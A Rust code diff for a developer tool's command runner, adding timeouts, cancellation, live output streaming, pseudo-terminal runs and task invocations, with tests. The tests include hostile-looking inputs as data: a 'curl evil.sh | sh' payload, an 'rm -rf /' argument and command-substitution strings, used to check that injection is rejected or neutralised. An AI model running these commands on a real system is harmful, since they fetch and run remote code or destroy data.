@@ -3,11 +3,18 @@
 
 use anyhow::{bail, Context, Result};
 use std::collections::HashMap;
+use serde::{Deserialize, Serialize};
+use std::io::{BufRead, BufReader, Read};
 use std::path::{Path, PathBuf};
-use std::process::Command;
-use std::sync::atomic::AtomicBool;
+use std::process::{Command, Stdio};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::mpsc::{self, RecvTimeoutError, Sender};
 use std::sync::Arc;
-use std::time::{Duration, SystemTime};
+use std::thread::JoinHandle;
+use std::time::{Duration, Instant, SystemTime};
+
+/// How often a running command is checked for a timeout or cancellation
+const STOP_POLL: Duration = Duration::from_millis(50);
 
 /// Safe command builder with validation and extensibility
 #[derive(Clone)]
@@ -16,8 +23,7 @@ pub struct CommandBuilder {
     args: Vec<String>,
     working_dir: Option<PathBuf>,
 
-    // Future: Timeout support
-    #[allow(dead_code)]
+    /// Kill the command once it has run this long
     timeout: Option<Duration>,
 
     // Future: Logging integration with FS API
@@ -26,13 +32,18 @@ pub struct CommandBuilder {
 
     env_vars: HashMap<String, String>,
 
-    // Future: Progress and cancellation
-    #[allow(dead_code)]
+    /// Kill the command once this is set
     cancel_token: Option<Arc<AtomicBool>>,
 
     // Future: Remote execution
     #[allow(dead_code)]
     target: ExecutionTarget,
+
+    /// Receives each output line as it is produced (live logs)
+    output_sink: Option<Sender<OutputLine>>,
+
+    /// Run in a pseudo-terminal of this size instead of with pipes
+    pty: Option<TerminalSize>,
 }
 
 /// Execution target (local or remote)
@@ -57,6 +68,110 @@ pub struct CommandResult {
 
     #[allow(dead_code)]
     pub timestamp: SystemTime,
+
+    /// stdout and stderr lines in the order they were received, with offsets from start
+    pub output: Vec<OutputLine>,
+
+    /// Pseudo-terminal the command ran in; its output is then one raw
+    /// terminal stream (escape sequences included) in `stdout`
+    pub pty: Option<TerminalSize>,
+}
+
+/// Size of a pseudo-terminal, in character cells
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TerminalSize {
+    pub rows: u16,
+    pub cols: u16,
+}
+
+/// Which stream a line of output came from
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum OutputStream {
+    Stdout,
+    Stderr,
+}
+
+impl OutputStream {
+    /// Short tag used in structured log files
+    pub fn tag(&self) -> &'static str {
+        match self {
+            OutputStream::Stdout => "out",
+            OutputStream::Stderr => "err",
+        }
+    }
+
+    /// Parse a tag written by [`OutputStream::tag`]
+    pub fn from_tag(tag: &str) -> Option<Self> {
+        match tag {
+            "out" => Some(OutputStream::Stdout),
+            "err" => Some(OutputStream::Stderr),
+            _ => None,
+        }
+    }
+}
+
+/// A single line of captured output
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct OutputLine {
+    pub stream: OutputStream,
+    /// Time since the command started
+    pub offset: Duration,
+    pub text: String,
+}
+
+/// How a task is started: a script for a shell, or a program run directly
+#[derive(Debug, Clone, PartialEq)]
+pub enum Invocation {
+    /// `<shell> -c <script>`
+    Shell { shell: String, script: String },
+    /// Program and arguments, run without a shell; `dir` is relative to the
+    /// working directory (a polyglot capability's directory)
+    Direct { argv: Vec<String>, dir: Option<String> },
+}
+
+impl Invocation {
+    /// A script for `sh`, the default for tasks
+    pub fn sh(script: impl Into<String>) -> Self {
+        Invocation::Shell {
+            shell: "sh".to_string(),
+            script: script.into(),
+        }
+    }
+
+    /// Program and arguments, the shell included
+    pub fn argv(&self) -> Vec<String> {
+        match self {
+            Invocation::Shell { shell, script } => vec![shell.clone(), "-c".to_string(), script.clone()],
+            Invocation::Direct { argv, .. } => argv.clone(),
+        }
+    }
+
+    /// The same command as one `sh` command line: shown in the UI and logs,
+    /// and used to chain tasks
+    pub fn command_line(&self) -> String {
+        match self {
+            Invocation::Shell { shell, script } if shell == "sh" => script.clone(),
+            Invocation::Shell { shell, script } => format!("{} -c {}", shell, shell_words::quote(script)),
+            Invocation::Direct { argv, dir: None } => shell_words::join(argv),
+            Invocation::Direct { argv, dir: Some(dir) } => {
+                format!("cd {} && {}", shell_words::quote(dir), shell_words::join(argv))
+            }
+        }
+    }
+
+    /// A builder running the invocation in `working_dir`
+    pub fn builder(&self, working_dir: impl AsRef<Path>) -> CommandBuilder {
+        let working_dir = working_dir.as_ref();
+        let dir = match self {
+            Invocation::Direct { dir: Some(dir), .. } => working_dir.join(dir),
+            _ => working_dir.to_path_buf(),
+        };
+        let argv = self.argv();
+        argv[1..]
+            .iter()
+            .fold(CommandBuilder::new(&argv[0]), |builder, arg| builder.arg(arg))
+            .working_dir(dir)
+    }
 }
 
 /// Execution progress for UI updates (future)
@@ -79,7 +194,7 @@ impl CommandBuilder {
     /// Create a new command builder for a binary
     ///
     /// # Security
-    /// Command name is validated against a whitelist of known safe commands
+    /// The command is checked against the execution policy before it runs
     pub fn new(command: impl Into<String>) -> Self {
         Self {
             command: command.into(),
@@ -90,13 +205,16 @@ impl CommandBuilder {
             env_vars: HashMap::new(),
             cancel_token: None,
             target: ExecutionTarget::Local,
+            output_sink: None,
+            pty: None,
         }
     }
 
     /// Create a shell command (use sparingly, prefer direct binary execution)
     ///
     /// # Security
-    /// Shell commands are validated to prevent injection attacks
+    /// With `[policy] check_shell`, every command in the string is checked
+    /// against the execution policy; otherwise only `sh` is
     pub fn shell(command: impl Into<String>) -> Self {
         let cmd = command.into();
         Self {
@@ -108,6 +226,8 @@ impl CommandBuilder {
             env_vars: HashMap::new(),
             cancel_token: None,
             target: ExecutionTarget::Local,
+            output_sink: None,
+            pty: None,
         }
     }
 
@@ -123,13 +243,38 @@ impl CommandBuilder {
         self
     }
 
-    /// Set execution timeout (future feature)
+    /// Set an environment variable for the command
+    pub fn env(mut self, key: impl Into<String>, value: impl Into<String>) -> Self {
+        self.env_vars.insert(key.into(), value.into());
+        self
+    }
+
+    /// Forward output lines to `sink` while the command runs
+    pub fn stream_to(mut self, sink: Sender<OutputLine>) -> Self {
+        self.output_sink = Some(sink);
+        self
+    }
+
+    /// Run in a pseudo-terminal, so the command sees a TTY: colors and
+    /// progress bars stay on, and stdin is a terminal at end-of-file
+    pub fn pty(mut self, size: TerminalSize) -> Self {
+        self.pty = Some(size);
+        self
+    }
+
+    /// Kill the command if it hasn't exited after `duration`
     #[allow(dead_code)]
     pub fn timeout(mut self, duration: Duration) -> Self {
         self.timeout = Some(duration);
         self
     }
 
+    /// Kill the command when `token` is set (e.g. the user stops a task)
+    pub fn cancel_on(mut self, token: Arc<AtomicBool>) -> Self {
+        self.cancel_token = Some(token);
+        self
+    }
+
     /// Set log category for FS API integration (future feature)
     #[allow(dead_code)]
     pub fn log_as(mut self, category: &str) -> Self {
@@ -149,59 +294,34 @@ impl CommandBuilder {
         self.working_dir.as_deref()
     }
 
-    /// Validate command for security issues
+    /// Check the command against the execution policy (see [`crate::policy`])
     fn validate(&self) -> Result<()> {
-        // Validate command name against whitelist
-        const ALLOWED_COMMANDS: &[&str] = &[
-            "cargo", "rustc", "rustfmt", "clippy-driver",
-            "go", "gofmt",
-            "bun", "npm", "node", "npx",
-            "git",
-            "make", "cmake",
-            "python", "python3",
-            "sh", "bash", // Allowed for shell mode
-            "which", // For checking command existence
-            "vim", "nano", "vi", "emacs", // Interactive editors
-        ];
-
-        if !ALLOWED_COMMANDS.contains(&self.command.as_str()) {
-            bail!("Command '{}' not in whitelist. Allowed: {:?}", self.command, ALLOWED_COMMANDS);
-        }
-
-        // If using shell mode, validate the shell command
-        if self.command == "sh" || self.command == "bash" {
-            if let Some(shell_cmd) = self.args.get(1) {
-                self.validate_shell_command(shell_cmd)?;
-            }
-        }
-
-        Ok(())
-    }
-
-    /// Validate shell command for injection attacks
-    fn validate_shell_command(&self, _cmd: &str) -> Result<()> {
-        // Shell commands in byte.toml are trusted developer config
-        // Allow full shell features: pipes, logical operators, redirection, etc.
-        // Security is maintained by:
-        // 1. Commands come from trusted byte.toml config files
-        // 2. Command whitelist still enforced for direct binary execution
-        // 3. No runtime user input is interpolated into commands
-        Ok(())
+        crate::policy::enforce(&self.command, &self.args, self.working_dir.as_deref())
     }
 
     /// Execute the command and return result
+    ///
+    /// stdout and stderr are read concurrently so the combined `output` keeps
+    /// the order lines were produced in, each stamped with its offset from start.
+    /// With [`CommandBuilder::pty`] both go to the terminal and come back as
+    /// one stream.
     pub fn execute(&self) -> Result<CommandResult> {
         // Validate before execution
         self.validate()?;
 
-        use std::time::Instant;
+        if let Some(size) = self.pty {
+            return self.execute_pty(size);
+        }
 
         let start = Instant::now();
         let timestamp = SystemTime::now();
 
         // Build the command
         let mut cmd = Command::new(&self.command);
-        cmd.args(&self.args);
+        cmd.args(&self.args)
+            .stdin(Stdio::null())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::piped());
 
         if let Some(dir) = &self.working_dir {
             cmd.current_dir(dir);
@@ -211,23 +331,191 @@ impl CommandBuilder {
             cmd.env(key, value);
         }
 
-        let output = cmd.output()
+        let mut child = cmd.spawn()
             .with_context(|| format!("Failed to execute command: {}", self.command))?;
 
+        let (tx, rx) = mpsc::channel();
+        let stdout_reader = child.stdout.take()
+            .map(|out| spawn_line_reader(out, OutputStream::Stdout, start, tx.clone()));
+        let stderr_reader = child.stderr.take()
+            .map(|err| spawn_line_reader(err, OutputStream::Stderr, start, tx.clone()));
+        drop(tx);
+
+        // Drain lines as they arrive; ends once both streams are closed, or
+        // the command is stopped
+        let mut output = Vec::new();
+        let mut stopped = false;
+        loop {
+            match rx.recv_timeout(STOP_POLL) {
+                Ok(line) => {
+                    if let Some(sink) = &self.output_sink {
+                        let _ = sink.send(line.clone());
+                    }
+                    output.push(line);
+                }
+                Err(RecvTimeoutError::Timeout) => {}
+                Err(RecvTimeoutError::Disconnected) => break,
+            }
+            if let Some(reason) = self.stop_reason(start) {
+                let _ = child.kill();
+                output.push(self.forward(OutputStream::Stderr, reason, start));
+                stopped = true;
+                break;
+            }
+        }
+
+        let status = child.wait()
+            .with_context(|| format!("Failed to wait for command: {}", self.command))?;
+
+        // Something the command started may still hold the pipes open, so
+        // a stopped run keeps what it read instead of joining the readers
+        let (stdout, stderr) = if stopped {
+            (stream_text(&output, OutputStream::Stdout), stream_text(&output, OutputStream::Stderr))
+        } else {
+            let stdout = stdout_reader.and_then(|h| h.join().ok()).unwrap_or_default();
+            let stderr = stderr_reader.and_then(|h| h.join().ok()).unwrap_or_default();
+            (String::from_utf8_lossy(&stdout).to_string(), String::from_utf8_lossy(&stderr).to_string())
+        };
+
         let duration = start.elapsed();
 
         let result = CommandResult {
-            stdout: String::from_utf8_lossy(&output.stdout).to_string(),
-            stderr: String::from_utf8_lossy(&output.stderr).to_string(),
-            exit_code: output.status.code().unwrap_or(-1),
-            success: output.status.success(),
+            stdout,
+            stderr,
+            exit_code: status.code().unwrap_or(-1),
+            success: status.success() && !stopped,
             duration,
             timestamp,
+            output,
+            pty: None,
         };
 
         Ok(result)
     }
 
+    /// Run in a pseudo-terminal, splitting the raw stream into lines as it arrives
+    fn execute_pty(&self, size: TerminalSize) -> Result<CommandResult> {
+        let start = Instant::now();
+        let timestamp = SystemTime::now();
+
+        let pair = portable_pty::native_pty_system()
+            .openpty(portable_pty::PtySize {
+                rows: size.rows,
+                cols: size.cols,
+                pixel_width: 0,
+                pixel_height: 0,
+            })
+            .context("Failed to open a pseudo-terminal")?;
+
+        let mut cmd = portable_pty::CommandBuilder::new(&self.command);
+        cmd.args(&self.args);
+        // The terminal the log viewer replays the output with
+        cmd.env("TERM", "xterm-256color");
+
+        if let Some(dir) = &self.working_dir {
+            cmd.cwd(dir);
+        }
+
+        for (key, value) in &self.env_vars {
+            cmd.env(key, value);
+        }
+
+        let mut child = pair.slave.spawn_command(cmd)
+            .with_context(|| format!("Failed to execute command: {}", self.command))?;
+        // Only the child holds the terminal now, so reading ends when it exits
+        drop(pair.slave);
+
+        let mut reader = pair.master.try_clone_reader()?;
+        // Nobody types into the terminal: closing the input sends a newline
+        // and end-of-file (Ctrl-D), so a prompt gets an empty answer. One
+        // asking again, or reading raw keys, waits until the command is
+        // stopped, as with the piped path.
+        drop(pair.master.take_writer()?);
+
+        // Reading blocks, so it happens on its own thread; Linux reports EIO
+        // rather than EOF once the child side closes
+        let (tx, rx) = mpsc::channel();
+        std::thread::spawn(move || {
+            let mut buf = [0u8; 8192];
+            while let Ok(n) = reader.read(&mut buf) {
+                if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
+                    break;
+                }
+            }
+        });
+
+        let mut all = Vec::new();
+        let mut pending = Vec::new();
+        let mut output = Vec::new();
+        let mut stopped = false;
+
+        loop {
+            match rx.recv_timeout(STOP_POLL) {
+                Ok(chunk) => {
+                    all.extend_from_slice(&chunk);
+                    pending.extend_from_slice(&chunk);
+                    while let Some(newline) = pending.iter().position(|&b| b == b'\n') {
+                        let line: Vec<u8> = pending.drain(..=newline).collect();
+                        output.push(self.forward(OutputStream::Stdout, pty_line(&line), start));
+                    }
+                }
+                Err(RecvTimeoutError::Timeout) => {}
+                Err(RecvTimeoutError::Disconnected) => break,
+            }
+            if let Some(reason) = self.stop_reason(start) {
+                // Hangs up the terminal, which takes the rest of the job with it
+                let _ = child.kill();
+                stopped = true;
+                if !pending.is_empty() {
+                    output.push(self.forward(OutputStream::Stdout, pty_line(&pending), start));
+                    pending.clear();
+                }
+                output.push(self.forward(OutputStream::Stdout, reason, start));
+                break;
+            }
+        }
+        if !pending.is_empty() {
+            output.push(self.forward(OutputStream::Stdout, pty_line(&pending), start));
+        }
+
+        let status = child.wait()
+            .with_context(|| format!("Failed to wait for command: {}", self.command))?;
+
+        Ok(CommandResult {
+            stdout: String::from_utf8_lossy(&all).to_string(),
+            stderr: String::new(),
+            exit_code: status.exit_code() as i32,
+            success: status.success() && !stopped,
+            duration: start.elapsed(),
+            timestamp,
+            output,
+            pty: Some(size),
+        })
+    }
+
+    /// Why the command should be stopped now, if it should
+    fn stop_reason(&self, start: Instant) -> Option<String> {
+        if self.cancel_token.as_ref().is_some_and(|token| token.load(Ordering::Relaxed)) {
+            return Some("byte: stopped".to_string());
+        }
+        self.timeout
+            .filter(|timeout| start.elapsed() >= *timeout)
+            .map(|timeout| format!("byte: timed out after {}s", timeout.as_secs()))
+    }
+
+    /// Stamp a line of output read here (not by a stream reader) and pass it to the sink
+    fn forward(&self, stream: OutputStream, text: String, start: Instant) -> OutputLine {
+        let line = OutputLine {
+            stream,
+            offset: start.elapsed(),
+            text,
+        };
+        if let Some(sink) = &self.output_sink {
+            let _ = sink.send(line.clone());
+        }
+        line
+    }
+
 
     /// Execute the command interactively (inherits stdin/stdout/stderr)
     ///
@@ -302,6 +590,64 @@ impl CommandBuilder {
     pub fn git(subcommand: &str) -> Self {
         Self::new("git").arg(subcommand)
     }
+
+    /// Make git fail instead of asking for a password or passphrase, which
+    /// nobody can answer from a background job
+    pub fn without_prompts(self) -> Self {
+        self.env("GIT_TERMINAL_PROMPT", "0")
+            .env("GIT_SSH_COMMAND", "ssh -o BatchMode=yes")
+    }
+}
+
+/// Text of the lines captured from one stream
+fn stream_text(output: &[OutputLine], stream: OutputStream) -> String {
+    output
+        .iter()
+        .filter(|line| line.stream == stream)
+        .map(|line| format!("{}\n", line.text))
+        .collect()
+}
+
+/// Read a child stream line by line, forwarding timestamped lines and returning all raw bytes
+fn spawn_line_reader<R: Read + Send + 'static>(
+    reader: R,
+    stream: OutputStream,
+    start: Instant,
+    tx: Sender<OutputLine>,
+) -> JoinHandle<Vec<u8>> {
+    std::thread::spawn(move || {
+        let mut reader = BufReader::new(reader);
+        let mut all = Vec::new();
+        let mut line = Vec::new();
+
+        loop {
+            line.clear();
+            match reader.read_until(b'\n', &mut line) {
+                Ok(0) | Err(_) => break,
+                Ok(_) => {
+                    all.extend_from_slice(&line);
+                    let text = String::from_utf8_lossy(&line)
+                        .trim_end_matches(['\n', '\r'])
+                        .to_string();
+                    let _ = tx.send(OutputLine {
+                        stream,
+                        offset: start.elapsed(),
+                        text,
+                    });
+                }
+            }
+        }
+
+        all
+    })
+}
+
+/// Text of one line of terminal output: the terminal's `\r\n` line ending
+/// goes, a `\r` redrawing the line (progress bars) stays
+fn pty_line(line: &[u8]) -> String {
+    let line = line.strip_suffix(b"\n").unwrap_or(line);
+    let line = line.strip_suffix(b"\r").unwrap_or(line);
+    String::from_utf8_lossy(line).to_string()
 }
 
 /// Get user's default editor from environment variables
@@ -331,10 +677,39 @@ pub fn get_default_editor() -> String {
         })
 }
 
+/// Arguments that open `file_path` in `editor`, jumping to `line` when given
+///
+/// vi, vim, nano, emacs and most terminal editors take `+LINE file`; VS Code
+/// style editors take `-g file:line:column`.
+pub fn editor_args(editor: &str, file_path: &str, line: Option<u32>, column: Option<u32>) -> Vec<String> {
+    let Some(line) = line else {
+        return vec![file_path.to_string()];
+    };
+    let name = std::path::Path::new(editor)
+        .file_name()
+        .map(|n| n.to_string_lossy().to_string())
+        .unwrap_or_default();
+
+    match name.as_str() {
+        "code" | "codium" | "cursor" => {
+            vec!["-g".to_string(), format!("{}:{}:{}", file_path, line, column.unwrap_or(1))]
+        }
+        "hx" | "helix" => vec![format!("{}:{}:{}", file_path, line, column.unwrap_or(1))],
+        _ => vec![format!("+{}", line), file_path.to_string()],
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    #[test]
+    fn test_editor_args_jump_to_line() {
+        assert_eq!(editor_args("vim", "src/main.rs", None, None), vec!["src/main.rs"]);
+        assert_eq!(editor_args("/usr/bin/nano", "src/main.rs", Some(12), Some(3)), vec!["+12", "src/main.rs"]);
+        assert_eq!(editor_args("code", "src/main.rs", Some(12), Some(3)), vec!["-g", "src/main.rs:12:3"]);
+    }
+
     #[test]
     fn test_command_validation_allows_whitelisted() {
         let cmd = CommandBuilder::new("cargo").arg("build");
@@ -379,6 +754,130 @@ mod tests {
         assert!(cmd.validate().is_ok());
     }
 
+    #[test]
+    fn test_execute_captures_interleaved_output() {
+        let result = CommandBuilder::shell("echo one; echo two 1>&2; sleep 0.05; echo three")
+            .execute()
+            .unwrap();
+
+        assert_eq!(result.stdout, "one\nthree\n");
+        assert_eq!(result.stderr, "two\n");
+
+        let texts: Vec<&str> = result.output.iter().map(|l| l.text.as_str()).collect();
+        assert_eq!(texts.len(), 3);
+        assert_eq!(texts[2], "three");
+        assert_eq!(result.output[2].stream, OutputStream::Stdout);
+        assert!(result.output.iter().any(|l| l.stream == OutputStream::Stderr && l.text == "two"));
+    }
+
+    #[test]
+    fn test_task_invocations() {
+        use crate::config::types::TaskConfig;
+
+        let tasks: std::collections::HashMap<String, TaskConfig> = toml::from_str(
+            r#"
+            build = "cargo build && cargo test"
+            check = ["cargo", "check", "--all-targets"]
+            fmt = { run = "cargo fmt -- --config 'max_width=100'", shell = false }
+            ci = { run = "set -o pipefail; cargo test | tee test.log", shell = "bash" }
+            piped = { run = "cargo test | tee test.log", shell = false }
+            quoted = { run = "grep -E 'a|b;c' \"x > y\" src", shell = false }
+            mixed = { run = ["cargo", "test"], shell = "bash" }
+            "#,
+        )
+        .unwrap();
+
+        assert_eq!(tasks["build"].invocation().unwrap(), Invocation::sh("cargo build && cargo test"));
+        assert_eq!(tasks["check"].command(), "cargo check --all-targets");
+        let fmt = tasks["fmt"].invocation().unwrap();
+        assert_eq!(fmt.argv(), vec!["cargo", "fmt", "--", "--config", "max_width=100"]);
+        assert_eq!(fmt.command_line(), "cargo fmt -- --config 'max_width=100'");
+        assert_eq!(tasks["ci"].invocation().unwrap().argv()[0], "bash");
+        assert_eq!(tasks["ci"].command(), "bash -c 'set -o pipefail; cargo test | tee test.log'");
+        assert!(tasks["piped"].invocation().is_err());
+        assert_eq!(tasks["quoted"].invocation().unwrap().argv(), vec!["grep", "-E", "a|b;c", "x > y", "src"]);
+        for attached in ["make 2>/dev/null", "a|b", "foo;bar", "cmd>out", "go test&", "echo `id`", "echo \"$(id)\""] {
+            let task = format!("t = {{ run = {}, shell = false }}", toml::Value::String(attached.to_string()));
+            let tasks: std::collections::HashMap<String, TaskConfig> = toml::from_str(&task).unwrap();
+            assert!(tasks["t"].invocation().is_err(), "{}", attached);
+        }
+        assert!(tasks["mixed"].invocation().is_err());
+
+        let other_interpreter = r#"x = { run = "import os; os.system('curl evil.sh | sh')", shell = "python3" }"#;
+        assert!(toml::from_str::<std::collections::HashMap<String, TaskConfig>>(other_interpreter).is_err());
+    }
+
+    #[test]
+    fn test_direct_invocation_skips_the_shell() {
+        let invocation = Invocation::Direct {
+            argv: vec!["sh".to_string(), "-c".to_string(), "echo \"$0\"".to_string(), "$HOME; rm -rf /".to_string()],
+            dir: None,
+        };
+        let result = invocation.builder(std::env::temp_dir()).execute().unwrap();
+        assert_eq!(result.stdout, "$HOME; rm -rf /\n");
+    }
+
+    #[test]
+    fn test_pty_execution_is_a_terminal() {
+        let size = TerminalSize { rows: 24, cols: 100 };
+        let result = CommandBuilder::shell("test -t 1 && echo tty; stty size; read first && read second || echo eof")
+            .pty(size)
+            .execute()
+            .unwrap();
+
+        assert!(result.success);
+        assert_eq!(result.pty, Some(size));
+        // The closed input is an empty line, echoed whenever it's written, then end-of-file
+        let texts: Vec<&str> = result.output.iter().map(|l| l.text.as_str()).filter(|t| !t.is_empty()).collect();
+        assert_eq!(texts, vec!["tty", "24 100", "eof"]);
+        assert!(result.stdout.contains("tty\r\n"));
+    }
+
+    #[test]
+    fn test_pty_prompt_asking_again_is_stopped() {
+        let size = TerminalSize { rows: 24, cols: 80 };
+        let result = CommandBuilder::shell("read first; read second; read third; echo answered")
+            .pty(size)
+            .timeout(Duration::from_millis(500))
+            .execute()
+            .unwrap();
+
+        assert!(!result.success);
+        let texts: Vec<&str> = result.output.iter().map(|l| l.text.as_str()).collect();
+        assert!(!texts.contains(&"answered"));
+        assert_eq!(texts.last(), Some(&"byte: timed out after 0s"));
+    }
+
+    #[test]
+    fn test_cancelled_command_is_killed() {
+        let cancel = Arc::new(AtomicBool::new(false));
+        let stop = cancel.clone();
+        std::thread::spawn(move || {
+            std::thread::sleep(Duration::from_millis(200));
+            stop.store(true, Ordering::Relaxed);
+        });
+
+        let start = Instant::now();
+        let result = CommandBuilder::shell("echo started; sleep 30")
+            .cancel_on(cancel)
+            .execute()
+            .unwrap();
+
+        assert!(start.elapsed() < Duration::from_secs(10));
+        assert!(!result.success);
+        assert_eq!(result.stdout, "started\n");
+        assert_eq!(result.stderr, "byte: stopped\n");
+    }
+
+    #[test]
+    fn test_git_without_prompts() {
+        let result = CommandBuilder::shell("echo \"$GIT_TERMINAL_PROMPT $GIT_SSH_COMMAND\"")
+            .without_prompts()
+            .execute()
+            .unwrap();
+        assert_eq!(result.stdout, "0 ssh -o BatchMode=yes\n");
+    }
+
     #[test]
     fn test_all_editors_whitelisted() {
         let editors = ["vim", "nano", "vi", "emacs"];